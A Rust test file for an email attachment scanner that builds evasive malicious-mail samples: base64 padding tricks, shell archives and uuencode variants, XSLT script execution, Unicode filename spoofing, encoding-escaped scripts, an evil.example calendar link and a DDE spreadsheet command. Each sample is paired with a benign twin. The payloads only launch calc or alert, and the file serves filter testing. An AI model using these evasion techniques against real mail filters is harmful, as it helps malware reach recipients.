//! What passed as clean when somebody tried once more: letters too many, other ways to begin a file in a text, scripts that are archives, pieces
//! under another name, names and types that other programs read otherwise. Each class has its honest twin.

use super::carriers::{program, zipped};
use super::expected::{Bad, End, Mail, bad};
use crate::mail::{attached, base64};

const ANY: &[End] = &[End::Forbidden, End::Infected, End::NotOpened];
const HEAD: &str = "From: Accounts <accounts@a.example>\r\nTo: bob@b.example\r\nSubject: Payment advice\r\nDate: Tue, 17 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n";
const SCRIPT: &[u8] = b"var s = new ActiveXObject('WScript.Shell');\r\ns.Run('cmd /c calc.exe');\r\n";

pub(crate) fn all() -> Vec<Bad> {
    [letters(), flash(), shell_archives(), pieces(), style_sheets(), in_text(), macintosh(), names(), types(), pages()]
        .into_iter()
        .flatten()
        .collect()
}

fn lines(data: &[u8]) -> String {
    String::from_utf8(base64(data)).unwrap()
}

fn one(data: &[u8]) -> String {
    lines(data).split_whitespace().collect()
}

fn misread(name: &str, message: Vec<u8>) -> Bad {
    bad("misread", name, message, ANY, "")
}

fn twin(name: &str, message: Vec<u8>) -> Mail {
    Mail { class: "honest twin", name: name.to_owned(), message }
}

/// A message of a text and one part, which has these fields.
fn with_part(fields: &str, body: &str) -> Vec<u8> {
    format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
         --BB\r\n{fields}\r\n\r\n{body}\r\n--BB--\r\n"
    )
    .into_bytes()
}

/// A file whose body is written in this way.
fn encoded(name: &str, body: &str) -> Vec<u8> {
    let fields = format!(
        "Content-Type: application/octet-stream; name={name}\r\nContent-Disposition: attachment; filename={name}\r\n\
         Content-Transfer-Encoding: base64"
    );
    with_part(&fields, body)
}

/// A text alone.
fn text(kind: &str, body: &str) -> Vec<u8> {
    let body = body.replace("\r\n", "\n").replace('\n', "\r\n");
    format!("{HEAD}Content-Type: {kind}\r\n\r\n{body}").into_bytes()
}

fn page() -> Vec<u8> {
    let script = format!(
        "var b=new Blob([Uint8Array.from(atob('{}'),c=>c.charCodeAt(0))]);var a=document.createElement('a');\
         a.href=URL.createObjectURL(b);a.download='x.zip';a.click()",
        one(&zipped("run.js", SCRIPT))
    );
    format!("<!DOCTYPE html>\n<html><head><title>Fax</title></head><body><script>{script}</script></body></html>")
        .into_bytes()
}

/// Letters before the data, which some readers of base64 pass over.
fn letters() -> Vec<Bad> {
    let files = [("a.dat", program()), ("fax.html", page()), ("b.dat", zipped("run.js", SCRIPT))];
    let mut out = Vec::new();
    for (name, data) in &files {
        for stray in ["A", "AA", "AAA"] {
            let body = lines(data);
            out.push((format!("{name}: {stray} before"), encoded(name, &format!("{stray}{body}"))));
            out.push((format!("{name}: {stray} on a line"), encoded(name, &format!("{stray}\r\n{body}"))));
            // As many behind as it takes to come out even.
            let bare = one(data).replace('=', "");
            let rest = "A".repeat((4 - (bare.len() + stray.len()) % 4) % 4);
            out.push((format!("{name}: {stray} and even"), encoded(name, &format!("{stray}{bare}{rest}"))));
        }
    }
    let body = lines(&page());
    let (first, rest) = body.split_once("\r\n").unwrap();
    out.push(("a line between".into(), encoded("fax.html", &format!("{first}\r\nA\r\n{rest}"))));
    let over: String = body.lines().map(|line| format!("{line}A\r\n")).collect();
    out.push(("a letter too many on each line".into(), encoded("fax.html", &over.replace("=A", "="))));
    // Comments with the two letters that are other ones in addresses shift the rest for whoever passes over them.
    let strange = [b"<!--\xff\xff\xff-->".as_slice(), &page()].concat();
    let addresses = lines(&strange).replace('+', "-").replace('/', "_");
    assert!(addresses.contains('_'));
    out.push(("the alphabet of addresses".into(), encoded("fax.html", &addresses)));
    out.into_iter().map(|(name, message)| misread(&name, message)).collect()
}

fn movie(packed: bool) -> Vec<u8> {
    let mark: &[u8] = if packed { b"CWS\x09" } else { b"FWS\x09" };
    [mark, &200u32.to_le_bytes(), b"\x78\0\x05\x5f\0\0\x0f\xa0\0\0\x0c\x01\0", &[0; 179]].concat()
}

fn flash() -> Vec<Bad> {
    let zip = zipped("movie.bin", &movie(true));
    let says = "a Flash program";
    vec![
        bad("Flash", "by its name", attached("a.swf", b"x"), &[End::Forbidden], "the extension .swf"),
        bad("Flash", "by its content", attached("a.dat", &movie(false)), &[End::Forbidden], says),
        bad("Flash", "packed", attached("a.dat", &movie(true)), &[End::Forbidden], says),
        bad("Flash", "in an archive", attached("a.zip", &zip), &[End::Forbidden], says),
    ]
}

fn uuencoded(begin: &str, data: &[u8]) -> String {
    let letter = |value: usize| if value & 63 == 0 { '`' } else { (32 + (value & 63) as u8) as char };
    let mut out = format!("{begin}\n");
    for line in data.chunks(45) {
        out.push(letter(line.len()));
        for group in line.chunks(3) {
            let bits =
                group.iter().fold(0usize, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - group.len()));
            out.extend((0..4).map(|place| letter(bits >> (18 - 6 * place))));
        }
        out.push('\n');
    }
    out + "`\nend\n"
}

/// A script as `shar` of GNU writes it, and as that of BSD.
fn shar(command: &str, body: &str) -> String {
    format!(
        "#!/bin/sh\n# This is a shell archive (produced by GNU sharutils 4.15.2).\n# To extract the files from this archive, save it to some file, remove\n\
         # everything before the '#!/bin/sh' line above, then type 'sh FILE'.\n#\n{command}\n{body}SHAR_EOF\nexit 0\n"
    )
}

fn prefixed(text: &[u8]) -> String {
    String::from_utf8_lossy(text).lines().map(|line| format!("X{line}\n")).collect()
}

fn shell_archives() -> Vec<Bad> {
    let script = shar("  sed 's/^X//' << 'SHAR_EOF' > 'run.js' &&", &prefixed(SCRIPT));
    let bsd = shar("sed 's/^X//' >run.js << 'SHAR_EOF'", &prefixed(SCRIPT));
    let binary = shar("  sed 's/^X//' << 'SHAR_EOF' | uudecode &&", &uuencoded("begin 600 photo", &program()));
    let in_base64 = shar("base64 -d << SHAR_EOF > photo", &lines(&program()));
    let mut out: Vec<Bad> = ["a.shar", "a.sh", "a.txt", "a"]
        .into_iter()
        .flat_map(|name| {
            [
                misread(&format!("a script in a shell archive, {name}"), attached(name, script.as_bytes())),
                misread(&format!("a program in a shell archive, {name}"), attached(name, binary.as_bytes())),
            ]
        })
        .collect();
    out.push(misread("a shell archive of BSD", attached("a.sh", bsd.as_bytes())));
    out.push(misread("base64 in a shell archive", attached("a.sh", in_base64.as_bytes())));
    out.push(misread("a shell archive in a text", text("text/plain", &format!("Here it is.\n\n{script}"))));
    out.push(misread("the name of a shell archive", attached("a.shar", b"nothing of the kind")));
    out
}

/// Packed data, which has no mark of its own.
fn packed(length: u32) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 32) as u8
    };
    (0..length).map(|_| next()).collect()
}

fn pieces() -> Vec<Bad> {
    ["a.txt", "a.csv", "a.log", "photo.jpg", "photo.png", "a.pdf", "a.docx", "song.mp3", "film.mp4"]
        .into_iter()
        .map(|name| {
            let says = "may be a piece of an archive";
            bad("piece", name, attached(name, &packed(20_000)), ANY, says)
        })
        .collect()
}

const SHEET: &str = "<?xml version='1.0'?><stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\" \
     xmlns:user=\"placeholder\" version=\"1.0\"><output method=\"text\"/>MORE</stylesheet>";

fn style_sheets() -> Vec<Bad> {
    let script = SHEET.replace("MORE", "<ms:script implements-prefix=\"user\" language=\"JScript\"><![CDATA[new ActiveXObject(\"WScript.Shell\").Run(\"calc\")]]></ms:script>");
    let java = "<?xml version='1.0'?><xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' \
         xmlns:rt='http://xml.apache.org/xalan/java/java.lang.Runtime'><xsl:template match='/'>\
         <xsl:value-of select=\"rt:exec(rt:getRuntime(),'calc')\"/></xsl:template></xsl:stylesheet>";
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let says = "a style sheet of XML with a script";
    [
        ("a.xsl", script.as_bytes()),
        ("a.xslt", script.as_bytes()),
        ("a.xml", script.as_bytes()),
        ("b.xsl", java.as_bytes()),
        ("c.xsl", &wide),
    ]
    .into_iter()
    .map(|(name, data)| bad("style sheet", name, attached(name, data), &[End::Forbidden], says))
    .collect()
}

/// Files in a text that begin in other ways.
fn in_text() -> Vec<Bad> {
    let begins = [
        "begin 100644 NAME",
        "begin 7 NAME",
        "begin 0000644 NAME",
        "begin  NAME",
        "begin\t644\tNAME",
        "begin 644\tNAME",
    ];
    let mut out = Vec::new();
    for begin in begins {
        for (name, data) in [("run.js", SCRIPT.to_vec()), ("photo.dat", program())] {
            let begin = begin.replace("NAME", name);
            out.push(misread(&begin, text("text/plain", &format!("hello\n{}", uuencoded(&begin, &data)))));
        }
    }
    let name = one(b"run.js");
    let more = [
        ("a name in base64", uuencoded(&format!("begin-encoded 644 {name}"), SCRIPT)),
        ("all in base64", format!("begin-base64-encoded 644 {name}\n{}====\n", lines(SCRIPT))),
        ("yEnc with quotes", "=ybegin line=128 size=3 name=\"run.js\"\nabc\n=yend size=3\n".into()),
        ("yEnc with tabs", "=ybegin\tline=128\tsize=3\tname=run.js\nabc\n=yend size=3\n".into()),
        (
            "BinHex",
            "(This file must be converted with BinHex 4.0)\n\n:$f*TEQKPH#jdH'ThcjRKGA-!!!!!!!!$FA-J!!!!!!!!!!!!\n!!!!!:\n".into(),
        ),
    ];
    out.extend(more.into_iter().map(|(name, body)| misread(name, text("text/plain", &format!("hello\n{body}")))));
    out.extend(paused());
    let file = uuencoded("begin 644 run.js", SCRIPT);
    out.push(misread("by its type", text("application/x-uuencode", &file)));
    let returns = format!("{HEAD}Content-Type: text/plain\r\n\r\nhello\r{}", file.replace('\n', "\r"));
    out.push(misread("with returns alone", returns.into_bytes()));
    let hqx = "Content-Type: application/mac-binhex40; name=Photo";
    out.push(misread("BinHex by its type", with_part(hqx, ":$f*TEQKPH#jdH'ThcjRKGA-!!!!!!!!$FA-J!!!!!!!!!!!!:")));
    out
}

/// Files with a line of no length before their data or in them: some readers end there, and others pass over it.
fn paused() -> Vec<Bad> {
    let file = uuencoded("begin 644 photo.dat", &program());
    let (begin, data) = file.split_once('\n').unwrap();
    let (first, rest) = data.split_once('\n').unwrap();
    let mut out = Vec::new();
    for pause in [" \n", "`\n", "`\n`\n", "\n"] {
        for (place, body) in [
            ("before the data", format!("{begin}\n{pause}{data}")),
            ("in the data", format!("{begin}\n{first}\n{pause}{rest}")),
        ] {
            out.push(misread(&format!("{pause:?} {place}"), text("text/plain", &format!("hello\n{body}"))));
            let encoded = "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: x-uuencode";
            out.push(misread(&format!("{pause:?} {place}, by its encoding"), with_part(encoded, &body)));
        }
    }
    let in_base64 = format!("begin-base64 644 photo.dat\n\n{}====\n", lines(&program()));
    out.push(misread("an empty line before base64", text("text/plain", &format!("hello\n{in_base64}"))));
    out
}

pub(crate) fn apple_double(name: &[u8]) -> Vec<u8> {
    let mut out = [b"\0\x05\x16\x07\0\x02\0\0".as_slice(), &[0; 16], &[0, 2]].concat();
    for entry in [[3, 50, name.len() as u32], [9, 50 + name.len() as u32, 32]] {
        out.extend(entry.iter().flat_map(|number| number.to_be_bytes()));
    }
    [out.as_slice(), name, b"TEXTttxt", &[0; 24]].concat()
}

/// A file and what a Macintosh knows of it, each in its part.
fn doubled(real_name: &[u8], kind: &str, data: &[u8]) -> Vec<u8> {
    format!(
        "{HEAD}Content-Type: multipart/appledouble; boundary=AD\r\n\r\n--AD\r\nContent-Type: application/applefile; name=\"photo.jpg\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}--AD\r\nContent-Type: {kind}; name=\"photo.jpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--AD--\r\n",
        lines(&apple_double(real_name)),
        lines(data)
    )
    .into_bytes()
}

fn macintosh() -> Vec<Bad> {
    let script = b"#!/bin/sh\nopen -a Calculator\n";
    let message = doubled(b"run.command", "application/octet-stream", script);
    vec![bad("Macintosh", "the name beside a file", message, &[End::Forbidden], "the extension .command: run.command")]
}

fn named(disposition: &str) -> Vec<u8> {
    let fields = format!(
        "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; {disposition}\r\nContent-Transfer-Encoding: base64"
    );
    with_part(&fields, &lines(SCRIPT))
}

fn names() -> Vec<Bad> {
    [
        ("letters of full width", "filename*=UTF-8''run.%EF%BD%8A%EF%BD%93"),
        ("a dot of another kind", "filename*=UTF-8''run%E2%80%A4js"),
        ("a dot of full width", "filename*=UTF-8''run%EF%BC%8Ejs"),
        ("a mark of Arabic", "filename*=UTF-8''run.%D8%9Cjs"),
        ("a joiner", "filename*=UTF-8''run.j%CD%8Fs"),
        ("a selector", "filename*=UTF-8''run.js%EF%B8%8F"),
        ("a filler of Korean", "filename*=UTF-8''run.js%E3%85%A4"),
        ("a blank of Braille", "filename*=UTF-8''run.js%E2%A0%80"),
        ("tags", "filename*=UTF-8''run.js%F3%A0%80%A0"),
        ("a folder", "filename=\"run.js/.\""),
        ("a bell", "filename=\"run.js\u{7}.pdf\""),
        ("a blank before the star", "filename *0 = run; filename *1 = .js"),
    ]
    .into_iter()
    .map(|(name, disposition)| bad("misread name", name, named(disposition), &[End::Forbidden], "the extension .js"))
    .collect()
}

fn types() -> Vec<Bad> {
    [
        ("application/x-shockwave-flash", ".swf"),
        ("application/x-ms-application", ".application"),
        ("application/x-apple-diskimage", ".dmg"),
        ("application/vnd.android.package-archive", ".apk"),
        ("text/x-ms-regedit", ".reg"),
        ("application/internet-shortcut", ".url"),
        ("application/windows-library+xml", ".library-ms"),
        ("text/x-python", ".py"),
    ]
    .into_iter()
    .map(|(kind, says)| {
        let message =
            with_part(&format!("Content-Type: {kind}\r\nContent-Transfer-Encoding: base64"), &lines(b"x=1\r\n"));
        bad("no name", kind, message, &[End::Forbidden], says)
    })
    .collect()
}

fn pages() -> Vec<Bad> {
    let japanese = b"<!DOCTYPE html><html><head><meta charset=\"iso-2022-jp\"></head><body><scr\x1b(Bipt>ev\x1b(Bal(at\x1b(Bob('YWxlcnQoMSk='))\
          </scr\x1b(Bipt></body></html>";
    let picture = b"<?xml version='1.0' encoding='iso-2022-jp'?><svg xmlns='http://www.w3.org/2000/svg'><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt></svg>";
    vec![
        misread("a page with escape sequences", attached("fax.html", japanese)),
        misread("a picture with escape sequences", attached("fax.svg", picture)),
        misread(
            "a calendar that asks a stranger's server",
            attached("a.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:file://evil.example/share/a\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
        ),
        misread("a command in a table with tabs", attached("a.tsv", b"name\tamount\r\n=cmd|'/c calc'!A0\t3\r\n")),
    ]
}

/// Mail that looks the same and hides nothing.
pub(crate) fn twins() -> Vec<Mail> {
    let picture = [b"\xff\xd8\xff\xe0\0\x10JFIF\0".as_slice(), &packed(5_000)].concat();
    let table = "name;amount\r\nM\u{fc}ller;12\r\n".repeat(200);
    let latin: Vec<u8> = table.chars().map(|c| u32::from(c) as u8).collect();
    let wide: Vec<u8> = table.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let seventy: String = one(&zipped("a.txt", &packed(4_000)))
        .as_bytes()
        .chunks(70)
        .map(|line| format!("{}\r\n", String::from_utf8_lossy(line)))
        .collect();
    let song = [b"\xff\xfb\x90\x64".as_slice(), &packed(9_000)].concat();
    let japanese =
        b"<!DOCTYPE html><html><head><meta charset=\"iso-2022-jp\"></head><body>\x1b$B@A5a=q\x1b(B</body></html>";
    vec![
        twin("base64 without padding", encoded("photo.jpg", one(&picture).trim_end_matches('='))),
        twin("lines of seventy letters", encoded("a.zip", &seventy)),
        twin("a footer below base64", text("text/plain\r\nContent-Transfer-Encoding: base64", &format!("{}-- \nthe list\nof us\n", lines(b"hello\n")))),
        twin("a text that begins like Flash", attached("a.txt", b"CWS is our cold water system, and this is about it.\r\n")),
        twin("a shell archive of notes", attached("a.shar", shar("sed 's/^X//' << 'SHAR_EOF' > 'notes.txt'", "Xhello\n").as_bytes())),
        twin("a script", attached("backup.sh", b"#!/bin/sh\ncat > backup.conf << EOF\ntarget=/srv\nEOF\n")),
        twin("a mail about shell archives", text("text/plain", "Do you still have the shell archive?\n<< yes > no\n")),
        twin("a table in Latin letters", attached("a.csv", &latin)),
        twin("a table in UTF-16", attached("a.csv", &wide)),
        twin("data of no known format", attached("measured.dat", &packed(20_000))),
        twin("a song", attached("song.mp3", &song)),
        twin("a style sheet", attached("a.xsl", SHEET.replace("MORE", "<template match=\"/\"/>").as_bytes())),
        twin("a sentence", text("text/plain", "We\nbegin 5 tests tomorrow\nand go on.\nbegin  with the first\nThen the rest.\n")),
        twin("a mail about BinHex", text("text/plain", "It says\n(This file must be converted with BinHex 4.0)\nand I cannot open it.\n")),
        twin("a photo from a Macintosh", doubled(b"photo.jpg", "image/jpeg", &picture)),
        twin("a name in Japanese", named("filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8%E3%80%82.pdf")),
        twin("a page in Japanese", attached("a.html", japanese)),
        twin(
            "a calendar with a file of the house",
            attached("a.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:file://fs1/share/agenda.docx\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
        ),
    ]
}
